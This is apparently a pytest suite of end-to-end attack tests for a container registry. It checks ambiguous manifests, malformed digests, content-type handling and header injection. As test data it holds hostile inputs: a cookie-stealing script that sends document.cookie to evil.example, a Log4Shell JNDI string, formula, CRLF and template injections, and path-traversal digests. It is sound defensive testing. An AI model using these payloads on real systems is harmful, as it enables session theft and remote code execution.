"""Manifests that show one thing to one reader and another to the next, digests that are none, content that would run.

S21, S22, S40 and S41 of the attack tests, against a node that runs.
"""

import hashlib
import json

import pytest

from tests.e2e.images import INDEX, MANIFEST, Blob, make_image
from tests.e2e.pushes import Answer, Client, expect
from tests.e2e.raw import exchange, request
from tests.e2e.servers import RIVAL, Server

pytestmark = pytest.mark.skipif(RIVAL, reason="what the rival takes is its own business")

IMAGE = make_image(71, layers=(3000,))
GOOD = json.loads(IMAGE.manifest.data)
CONFIG, LAYER = json.dumps(GOOD["config"]), json.dumps(GOOD["layers"][0])


@pytest.fixture
def filled(client: Client, repository: str) -> str:
    for blob in IMAGE.blobs:
        client.put_blob(repository, blob)
    return repository


def put(client: Client, repository: str, body: bytes | str, content_type: str = MANIFEST) -> Answer:
    data = body if isinstance(body, bytes) else body.encode()
    return client.call("PUT", f"/v2/{repository}/manifests/hostile", data, Content_Type=content_type)


def image(config: str = CONFIG, layers: str = LAYER, more: str = "") -> str:
    return f'{{"schemaVersion":2,"mediaType":"{MANIFEST}","config":{config},"layers":[{layers}]{more}}}'


SIZE = str(GOOD["layers"][0]["size"])

AMBIGUOUS: dict[str, bytes | str] = {
    "layers and Layers": image(more=',"Layers":[]'),
    "layers twice": image(more=',"layers":[]'),
    "a long s": image(more=',"layer\u017f":[]'),
    "a Kelvin sign": image(more=',"\u212aonfig":1,"konfig":2'),
    "mediaType in capitals": image(more=',"MEDIATYPE":"x/y"'),
    "a descriptor's Digest": image(layers=LAYER[:-1] + ',"Digest":"sha256:0"}'),
    "UTF-16": image().encode("utf-16"),
    "a byte order mark": b"\xef\xbb\xbf" + image().encode(),
    "not UTF-8": image(more=',"x":"').encode() + b'\xff"}',
    "NaN": image(more=',"x":NaN'),
    "Infinity": image(more=',"x":-Infinity'),
    "half of a surrogate pair": image(more=',"x":"\\ud800"'),
    "100 000 deep": '{"x":' * 100_000,
    "100 000 deep, in lists": image(more=',"x":' + "[" * 100_000 + "]" * 100_000),
    "33 deep": image(more=',"x":' + "[" * 33 + "]" * 33),
    "a size of 5 000 digits": image(layers=LAYER.replace(f'"size": {SIZE}', '"size": ' + "9" * 5000)),
    "a size of 1.0": image(layers=LAYER.replace(f'"size": {SIZE}', f'"size": {SIZE}.0')),
    "a size of 1e3": image(layers=LAYER.replace(f'"size": {SIZE}', '"size": 1e3')),
    "a size of -0": image(layers=LAYER.replace(f'"size": {SIZE}', '"size": -0')),
    "a size below zero": image(layers=LAYER.replace(f'"size": {SIZE}', '"size": -1')),
    "a size of 2^63": image(layers=LAYER.replace(f'"size": {SIZE}', f'"size": {2**63}')),
    "a size in quotes": image(layers=LAYER.replace(f'"size": {SIZE}', f'"size": "{SIZE}"')),
    "manifests beside layers": image(more=',"manifests":[]'),
    "fsLayers": image(more=',"fsLayers":[]'),
    "another mediaType": image().replace(MANIFEST, INDEX, 1),
    "a comma too many": image()[:-1] + ",}",
    "two documents": image() + "{}",
    "nothing": b"{}",
    "an array": "[" + image() + "]",
    "a string": '"manifest"',
    "no schemaVersion": image().replace('"schemaVersion":2,', ""),
    "schema 1": image().replace('"schemaVersion":2', '"schemaVersion":1'),
    "a digest in capitals": image().replace(GOOD["layers"][0]["digest"], GOOD["layers"][0]["digest"].upper()),
}


@pytest.mark.parametrize("what", AMBIGUOUS)
def test_what_two_readers_read_differently_is_refused(client: Client, filled: str, what: str) -> None:
    """S21: our collector, a scanner and docker have to see the same image."""
    answer = expect(put(client, filled, AMBIGUOUS[what]), 400)
    assert json.loads(answer.body)["errors"][0]["code"] in {"MANIFEST_INVALID", "UNSUPPORTED"}
    assert b"Traceback" not in answer.body
    assert client.get_manifest(filled, "hostile") is None


@pytest.mark.parametrize(
    ("content_type", "status"),
    [
        (MANIFEST, 201),
        (f"{MANIFEST}; charset=utf-8", 201),
        (MANIFEST.upper(), 201),
        (INDEX, 400),
        ("text/html", 400),
        ("application/json", 400),
        ("application/vnd.oci.image.manifest.v1+json, text/html", 400),
        ("", 201),
    ],
)
def test_the_content_type_and_the_media_type_agree(client: Client, filled: str, content_type: str, status: int) -> None:
    expect(put(client, filled, image(), content_type), status)


def test_two_content_types_are_refused(plain_server: Server, client: Client, filled: str) -> None:
    fields = (("Content-Type", MANIFEST), ("Content-Type", INDEX))
    target = f"/v2/{filled}/manifests/hostile"
    sent = request("PUT", target, *fields, host=plain_server.address, body=image().encode())
    [answer] = exchange(plain_server, sent, method="PUT")
    assert answer.status == 400
    assert client.get_manifest(filled, "hostile") is None


HEX = "0" * 64
DIGESTS = (
    "sha256:../../x", f"SHA256:{HEX}", f"sha256:{'A' * 64}", f"sha256:{HEX[1:]}", f"sha256:{HEX}0", "sha256:",
    f"sha256:{'%00' * 64}", f"md5:{'0' * 32}", f"sha512:{HEX}", f"sha256:{HEX}%0a", f"sha256:{'%EF%BC%90' * 64}",
    f"sha256+x:{HEX}", f":{HEX}", HEX, f"sha256%3A{HEX}%2F..", f"blake3:{HEX[:32]}", f"sha256:{'g' * 64}",
)  # fmt: skip


@pytest.mark.parametrize("digest", DIGESTS)
def test_a_digest_that_is_none_names_nothing(client: Client, filled: str, digest: str) -> None:
    """S22: it is parsed once, by an allow-list of algorithms and exact lengths."""
    for path in (
        f"/v2/{filled}/blobs/{digest}",
        f"/v2/{filled}/manifests/{digest}",
        f"/v2/{filled}/referrers/{digest}",
    ):
        expect(client.call("GET", path), 400, 404)
    upload = client.open_upload(filled)
    separator = "&" if "?" in upload else "?"
    answer = client.call(
        "PUT", f"{upload}{separator}digest={digest}", b"bytes", Content_Type="application/octet-stream"
    )
    assert json.loads(expect(answer, 400).body)["errors"][0]["code"] in {"DIGEST_INVALID", "UNSUPPORTED"}


def test_a_digest_said_twice_or_of_other_bytes_stores_nothing(client: Client, filled: str) -> None:
    data = b"some bytes"
    right, wrong = f"sha256:{hashlib.sha256(data).hexdigest()}", f"sha256:{HEX}"
    upload = client.open_upload(filled)
    separator = "&" if "?" in upload else "?"
    sent = {"Content_Type": "application/octet-stream"}
    expect(client.call("PUT", f"{upload}{separator}digest={right}&digest={wrong}", data, **sent), 400)
    expect(client.call("PUT", f"{upload}{separator}digest={wrong}", data, **sent), 400, 404)
    for digest in (right, wrong):
        expect(client.call("HEAD", f"/v2/{filled}/blobs/{digest}"), 404)


SCRIPT = b"<html><script>document.location='https://evil.example/'+document.cookie</script></html>"
CONTENT_TYPES = (
    "text/html", "text/html; charset=utf-8", "image/svg+xml", "application/xhtml+xml", "text/xml", "application/xml",
    "application/pdf", "text/javascript", "application/javascript", "multipart/x-mixed-replace; boundary=x",
    "application/vnd.x+xml", "TEXT/HTML", "application/x-shockwave-flash", "message/rfc822",
)  # fmt: skip


@pytest.mark.parametrize("content_type", CONTENT_TYPES)
def test_nothing_that_was_pushed_runs_in_a_browser(client: Client, filled: str, content_type: str) -> None:
    """S40: a manifest served with its pusher's type, or a blob that is a page, would be script on our origin."""
    answer = put(client, filled, json.dumps({"x": SCRIPT.decode()}), content_type)
    paths = [f"/v2/{filled}/manifests/hostile"] if expect(answer, 201, 400).status == 201 else []
    blob = Blob("application/octet-stream", SCRIPT)
    client.put_blob(filled, blob)
    paths.append(f"/v2/{filled}/blobs/{blob.digest}")
    for path in paths:
        got = expect(client.call("GET", path, Accept="*/*"), 200)
        served = got.headers["Content-Type"].split(";")[0].strip()
        assert served.startswith("application/"), "and what is served as a manifest is JSON, which no browser runs"
        assert got.headers["X-Content-Type-Options"] == "nosniff"
        assert "default-src 'none'" in got.headers["Content-Security-Policy"]
        assert "sandbox" in got.headers["Content-Security-Policy"]
        if "/blobs/" in path:
            assert got.headers["Content-Disposition"].startswith("attachment")


PAYLOADS = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "=cmd()|'/C calc'!A0", "@SUM(1+1)", "\r\nX-Evil: 1",
    "\u2028alert(1)", "\x1b]0;owned\x07", "{{7*7}}", "${jndi:ldap://evil.example/a}", "javascript:alert(1)",
)  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_said_in_annotations_stays_text(client: Client, filled: str, payload: str) -> None:
    """S40, S41: annotations come back as JSON, never as a header, and errors quote no more than text."""
    body = json.dumps(GOOD | {"annotations": {payload: payload}, "artifactType": "application/vnd.example"})
    expect(put(client, filled, body), 201)
    got = expect(client.call("GET", f"/v2/{filled}/manifests/hostile"), 200)
    assert json.loads(got.body)["annotations"] == {payload: payload}
    assert "X-Evil" not in got.headers
    referrer = json.dumps(GOOD | {"annotations": {payload: payload}, "subject": GOOD["layers"][0]})
    expect(put(client, filled, referrer), 201)
    listed = expect(client.call("GET", f"/v2/{filled}/referrers/{GOOD['layers'][0]['digest']}"), 200)
    assert listed.headers["Content-Type"] == INDEX
    assert any(one["annotations"] == {payload: payload} for one in json.loads(listed.body)["manifests"])


@pytest.mark.parametrize(
    "media_type", ["a/b\r\nX-Evil: 1", "a/b\nX-Evil: 1", "application/x\0", "application/ x", "=cmd()"]
)
def test_a_media_type_cannot_end_a_header(client: Client, filled: str, media_type: str) -> None:
    """S41."""
    for body in (
        json.dumps(GOOD | {"mediaType": media_type}),
        json.dumps(GOOD | {"artifactType": media_type}),
        json.dumps(GOOD | {"layers": [GOOD["layers"][0] | {"mediaType": media_type}]}),
    ):
        expect(put(client, filled, body, ""), 400)
